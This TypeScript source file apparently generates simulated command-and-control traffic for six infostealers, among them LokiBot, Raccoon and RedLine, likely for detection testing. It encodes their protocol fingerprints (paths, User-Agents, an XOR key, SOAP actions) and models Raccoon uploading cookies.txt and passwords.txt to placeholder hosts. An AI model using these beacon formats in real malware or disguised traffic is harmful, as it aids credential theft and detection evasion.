import { httpRequest, type Program } from '../exchange.ts';

/** Posts what it took in a binary record of its own, in HTTP/1.0, and is answered 404. */
export const lokiBot: Program = (random) => {
  const server = 'fracht-dokumente.example';
  const contentKey = random.hexadecimal(8).toUpperCase();
  return random.beat(1, 5, 11.5, 1).map((at, index) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      'POST /kelvin/five/fre.php HTTP/1.0',
      [
        ['User-Agent', 'Mozilla/4.08 (Charon; Inferno)'],
        ['Host', server],
        ['Accept', '*/*'],
        ['Content-Type', 'application/octet-stream'],
        ['Content-Encoding', 'binary'],
        ['Content-Key', contentKey],
        ['Content-Length', '%length%'],
        ['Connection', 'close'],
      ],
      Buffer.concat([
        Buffer.from([0x12, 0x00, index < 2 ? 0x27 : 0x28, 0x00, 0x00, 0x00]),
        Buffer.from('\x0a\x00\x00\x00ckav.ru', 'latin1'),
        random.bytes(150),
      ]),
    ),
  }));
};

/** Posts an encrypted report, again in HTTP/1.0, under the name of a browser of 1999. */
export const pony: Program = (random) => {
  const server = 'liefer-portal.test';
  return random.beat(0.9, 5, 12, 1).map((at) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      'POST /panel/gate.php HTTP/1.0',
      [
        ['Host', server],
        ['Accept', '*/*'],
        ['Accept-Encoding', 'identity, *;q=0'],
        ['Accept-Language', 'en-US'],
        ['Content-Length', '%length%'],
        ['Content-Type', 'application/octet-stream'],
        ['Connection', 'close'],
        ['Content-Encoding', 'binary'],
        ['User-Agent', 'Mozilla/4.0 (compatible; MSIE 5.0; Windows 98)'],
      ],
      random.bytes(240 + random.below(160)),
    ),
  }));
};

/** Asks for its configuration with a body that is XORed with three bytes. */
export const azorult: Program = (random) => {
  const server = '203.0.113.233';
  const key = [0x0d, 0x0a, 0xc8];
  return random.beat(1.4, 5, 11.5, 1.2).map((at) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      'POST /index.php HTTP/1.1',
      [
        ['User-Agent', 'Mozilla/4.0 (compatible; MSIE 6.0b; Windows NT 5.1)'],
        ['Host', server],
        ['Content-Length', '%length%'],
        ['Cache-Control', 'no-cache'],
      ],
      Buffer.from(`G${random.hexadecimal(92).toUpperCase()}`, 'latin1').map(
        (byte, index) => byte ^ (key[index % key.length] ?? 0),
      ),
    ),
  }));
};

/** Registers the machine, fetches libraries by name, then sends what it found in parts. */
export const raccoon: Program = (random) => {
  const server = '198.51.100.77';
  const session = random.hexadecimal(32);
  const userAgent = 'record';
  const registration = httpRequest(
    'POST / HTTP/1.1',
    [
      ['Accept', '*/*'],
      ['Content-Type', 'application/x-www-form-urlencoded; charset=utf-8'],
      ['User-Agent', userAgent],
      ['Host', server],
      ['Content-Length', '%length%'],
      ['Connection', 'Keep-Alive'],
      ['Cache-Control', 'no-cache'],
    ],
    `machineId=${random.hexadecimal(8)}-${random.hexadecimal(12)}|user&configId=${session}`,
  );
  const library = (name: string): Uint8Array =>
    httpRequest(`GET /aN7jD0qO6kT5bK5bQ4eR8fE1xP7hL2vK/${name} HTTP/1.1`, [
      ['Content-Type', 'text/plain;'],
      ['User-Agent', userAgent],
      ['Host', server],
      ['Connection', 'Keep-Alive'],
      ['Cache-Control', 'no-cache'],
    ]);
  const upload = (name: string): Uint8Array => {
    const boundary = random.text(16, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789');
    return httpRequest(
      `POST /${session} HTTP/1.1`,
      [
        ['Accept', '*/*'],
        ['Content-Type', `multipart/form-data; boundary=${boundary}`],
        ['User-Agent', userAgent],
        ['Host', server],
        ['Content-Length', '%length%'],
        ['Connection', 'Keep-Alive'],
        ['Cache-Control', 'no-cache'],
      ],
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/x-object\r\n\r\n${random.base64(160)}\r\n--${boundary}--\r\n`,
    );
  };
  const requests = [
    registration,
    ...['nss3.dll', 'msvcp140.dll', 'sqlite3.dll'].map(library),
    ...['System Info.txt', 'cookies.txt', 'passwords.txt'].map(upload),
  ];
  const times = random.beat(1, requests.length, 6, 2);
  return requests.map((request, index) => ({
    at: times[index] ?? 0,
    server,
    port: 80,
    request,
    session: 'one connection',
  }));
};

/** A web service of .NET is the panel: SOAP envelopes, an action per step, no User-Agent. */
export const redLine: Program = (random) => {
  const server = '203.0.113.156';
  const steps = [
    'CheckConnect',
    'EnvironmentSettings',
    'SetEnvironment',
    'GetUpdates',
    'GetUpdates',
    'GetUpdates',
  ];
  return random.beat(0.8, steps.length, 8, 2).map((at, index) => ({
    at,
    server,
    port: 8000,
    session: 'one connection',
    request: httpRequest(
      'POST / HTTP/1.1',
      [
        ['Content-Type', 'text/xml; charset=utf-8'],
        ['SOAPAction', `"http://tempuri.org/Endpoint/${steps[index]}"`],
        ['Host', `${server}:8000`],
        ['Content-Length', '%length%'],
        ['Accept-Encoding', 'gzip, deflate'],
        ...(index === 0 ? [['Connection', 'Keep-Alive'] as const] : []),
      ],
      `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><${steps[index]} xmlns="http://tempuri.org/"/></s:Body></s:Envelope>`,
    ),
  }));
};

/** Two header fields and a query of two values: the least a request can say. */
export const formBook: Program = (random) => {
  const servers = ['gartenmoebel-sued.example', 'yoga-am-see.test', 'kaffee-kontor.example'];
  const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
  const parameter = random.text(8, letters);
  return random.beat(1, 6, 9, 2).map((at, index) => {
    const server = `www.${servers[index % servers.length]}`;
    return {
      at,
      server,
      port: 80,
      request: httpRequest(
        `GET /c8te/?${parameter}=${random.base64(60)}&${random.text(6, letters)}=${random.text(10, letters)} HTTP/1.1`,
        [
          ['Host', server],
          ['Connection', 'close'],
        ],
        new Uint8Array(7),
      ),
    };
  });
};
